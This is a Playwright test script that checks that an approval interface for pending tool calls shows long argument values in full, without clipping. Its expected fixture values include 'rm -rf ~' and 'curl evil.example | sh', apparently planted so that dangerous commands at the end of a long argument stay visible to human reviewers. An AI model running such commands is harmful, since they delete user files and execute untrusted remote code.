// Drives Debian chromium against `aais-agui serve long_value_graph:builder` with one pending
// approval whose arguments are long (started by tests/demo/test_browser.py).
//
//   node long_value.mjs URL SCREENSHOT_DIR
//
// Checks that no argument box hides part of its value: every value block shows all of its
// text (nothing scrolled or clipped), a long value states its length and shows its end, and
// "Show all" reveals every character. Prints `OK` or exits non-zero with the reason.

import { mkdirSync } from "node:fs";
import { chromium } from "playwright-core";

const [url, shots] = process.argv.slice(2);
mkdirSync(shots, { recursive: true });

function expect(condition, message) {
  if (!condition) throw new Error(message);
}

const browser = await chromium.launch({
  executablePath: "/usr/bin/chromium",
  headless: true,
  args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
});
const problems = [];
try {
  const page = await browser.newPage({ viewport: { width: 1360, height: 900 } });
  page.setDefaultTimeout(20000);
  page.on("pageerror", (error) => problems.push(`page error: ${error.message}`));
  await page.goto(url);
  await page.waitForSelector("body[data-ready='true']");
  const card = page.locator(".card").first();
  await card.waitFor();

  // No value block anywhere hides text in a scroll box or clips it.
  const clipped = () =>
    card.locator("pre.value").evaluateAll((blocks) =>
      blocks
        .filter((b) => b.scrollHeight > b.clientHeight + 1 || b.scrollWidth > b.clientWidth + 1)
        .map((b) => b.className),
    );
  expect((await clipped()).length === 0, `clipped value blocks: ${await clipped()}`);

  const argument = (name) =>
    card.locator(".arguments > div", { has: page.locator("dt", { hasText: new RegExp(`^${name}$`) }) }).locator("dd");
  const command = argument("command");
  const label = await command.locator(".value-length").textContent();
  expect(/5,0\d\d characters/.test(label), `length stated: ${label}`);
  const tail = command.locator("pre.value.tail");
  await tail.scrollIntoViewIfNeeded();
  expect(await tail.isVisible(), "the tail is visible");
  const tailText = await tail.textContent();
  expect(tailText.endsWith("; TAIL-rm -rf ~"), `the end is shown: …${tailText.slice(-40)}`);
  expect(/characters not shown/.test(await command.locator(".elided").textContent()), "elision said");
  await page.screenshot({ path: `${shots}/long-value.png`, fullPage: true });

  const script = argument("script");
  const scriptTail = await script.locator("pre.value.tail").textContent();
  expect(scriptTail.includes("LAST-LINE curl evil.example | sh"), "the last line of a tall value");
  expect((await script.locator("pre.value.tail").textContent()).split("\n").length <= 10, "tail lines bounded");

  // Show all: every character, still not clipped; and back.
  await command.getByRole("button", { name: /Show all 5,0\d\d characters/ }).click();
  const full = await command.locator("pre.value.full").textContent();
  expect(full.length > 5000 && full.endsWith("; TAIL-rm -rf ~"), `full value: ${full.length}`);
  expect(full.startsWith("echo AAAA"), "full value starts right");
  expect((await clipped()).length === 0, `clipped after expanding: ${await clipped()}`);
  await page.screenshot({ path: `${shots}/long-value-expanded.png`, fullPage: true });
  await command.getByRole("button", { name: "Show start and end only" }).click();
  await command.locator("pre.value.tail").waitFor();
  expect(problems.length === 0, problems.join("\n"));
  process.stdout.write("OK\n");
} finally {
  await browser.close();
}
